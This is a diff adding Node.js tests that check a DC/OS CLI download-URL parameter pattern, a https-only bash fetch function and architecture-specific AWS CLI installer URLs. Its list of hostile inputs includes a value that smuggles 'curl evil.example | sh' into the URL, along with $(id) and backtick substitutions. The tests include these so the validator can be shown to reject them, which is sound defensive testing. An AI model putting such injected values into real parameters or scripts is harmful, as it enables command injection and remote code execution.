@@ -6,7 +6,7 @@
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
 import { readFileSync } from 'node:fs';
-import { USER_DATA_LIMIT } from '../stacks/bootstrap.js';
+import { USER_DATA_LIMIT } from '../lib/audit/user-data.js';
 import { DEFINITIONS } from './helpers/template.js';
 import { exampleValues, resolveUserData, signalledResource, subReferences, synthesizedTemplates, userDataPrograms } from './boot/user-data.js';
 
@@ -75,3 +75,74 @@ for (const [name, config] of Object.entries(DEFINITIONS)) {
   });
 }
 
+
+describe('URLs the programs download', () => {
+  const templates = synthesizedTemplates(DEFINITIONS.default!);
+  const programs = userDataPrograms(templates);
+  const admin = programs.find((p) => p.id === 'AdminInstance')!;
+  const values = exampleValues(templates);
+  const admits = (stack: string, parameter: string, value: string) => {
+    const declaration = (templates[stack]!.Parameters as Record<string, { AllowedPattern?: string }>)[parameter]!;
+    return new RegExp(`^(?:${declaration.AllowedPattern ?? '.*'})$`, 'u').test(value);
+  };
+  const stacksDeclaring = (parameter: string) => Object.keys(templates).filter((id) => parameter in (templates[id]!.Parameters as object));
+
+  const benign = [
+    '',
+    'https://downloads.dcos.io/binaries/cli/linux/x86-64/dcos-2.2/dcos',
+    'https://example-bucket.s3.eu-west-1.amazonaws.com/tools/dcos?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIA%2F20240101%2Feu-west-1&X-Amz-Signature=0a1b',
+    'https://mirror.example.com:8443/dcos(2.2)/dcos',
+  ];
+  const hostile = [
+    'http://downloads.dcos.io/binaries/cli/linux/x86-64/dcos-2.2/dcos',
+    'ftp://example.com/dcos',
+    "https://example.com/dcos';curl${IFS}evil.example|sh;'",
+    "https://example.com/it's",
+    'https://example.com/$(id)',
+    'https://example.com/`id`',
+    'https://example.com/a b',
+    'https://example.com/a"b',
+    'https://example.com/a\\b',
+    'https://user:pass@example.com/dcos',
+    'https://example.com/a\nb',
+  ];
+
+  it('DcosCliUrl admits only https:// URLs without quotes, spaces, $, backticks or backslashes, in every stack that declares it', () => {
+    assert.deepEqual(stacksDeclaring('DcosCliUrl').sort(), ['MasterZone', 'Root']);
+    for (const stack of stacksDeclaring('DcosCliUrl')) {
+      for (const url of benign) assert.ok(admits(stack, 'DcosCliUrl', url), `${stack} refuses ${url}`);
+      for (const url of hostile) assert.ok(!admits(stack, 'DcosCliUrl', url), `${stack} admits ${JSON.stringify(url)}`);
+    }
+  });
+
+  it('a DcosCliUrl the pattern admits reaches the admin program as exactly that one word', () => {
+    for (const url of [...benign, ...hostile].filter((u) => admits('MasterZone', 'DcosCliUrl', u))) {
+      const script = resolveUserData(admin, { ...values, parameters: { ...values.parameters, DcosCliUrl: url } });
+      const line = script.split('\n').find((l) => l.startsWith('CLI_URL='))!;
+      const run = spawnSync('bash', ['-c', `${line}\nprintf %s "$CLI_URL"`], { encoding: 'utf8' });
+      assert.equal(run.stdout, url, `${line}\n${run.stderr}`);
+    }
+  });
+
+  it('fetch downloads over https only, with TLS 1.2 or later and no redirect to anything else', () => {
+    const fetch = /^fetch\(\) \{\n[\s\S]*?^\}/m.exec(readFileSync('stacks/userdata/common.sh', 'utf8'))![0];
+    const run = spawnSync('bash', ['-c', `fail() { echo "FAIL: $1"; exit 1; }\ncurl() { echo "curl $*" >&2; echo 200; }\n${fetch}\nfetch "$1" /dev/null`, 'fetch', 'http://downloads.example.com/dcos'], { encoding: 'utf8' });
+    assert.equal(run.status, 1);
+    assert.equal(run.stdout.trim(), 'FAIL: refusing to fetch http://downloads.example.com/dcos: only https:// URLs are downloaded (plain http could be swapped in transit)');
+    assert.equal(run.stderr, '', 'curl never ran');
+    const ok = spawnSync('bash', ['-c', `fail() { echo "FAIL: $1"; exit 1; }\ncurl() { echo "curl $*" >&2; echo 200; }\n${fetch}\nfetch "$1" /dev/null`, 'fetch', 'https://downloads.example.com/dcos'], { encoding: 'utf8' });
+    assert.equal(ok.status, 0, ok.stdout);
+    assert.match(ok.stderr, /^curl -sSL --proto =https --proto-redir =https --tlsv1\.2 /);
+  });
+});
+
+describe('architecture-specific downloads', () => {
+  it("the AWS CLI installer is the one for the machine's architecture (uname -m: x86_64 or aarch64)", () => {
+    const ensure = /^ensure_aws_cli\(\) \{\n[\s\S]*?^\}/m.exec(readFileSync('stacks/userdata/common.sh', 'utf8'))![0];
+    for (const machine of ['x86_64', 'aarch64']) {
+      const stubs = `command() { return 1; }\nuname() { echo ${machine}; }\nfetch() { echo "$1"; }\nunzip() { return 1; }\n`;
+      const run = spawnSync('bash', ['-c', `${stubs}${ensure}\nensure_aws_cli || true`], { encoding: 'utf8' });
+      assert.equal(run.stdout.trim(), `https://awscli.amazonaws.com/awscli-exe-linux-${machine}.zip`, run.stderr);
+    }
+  });
+});
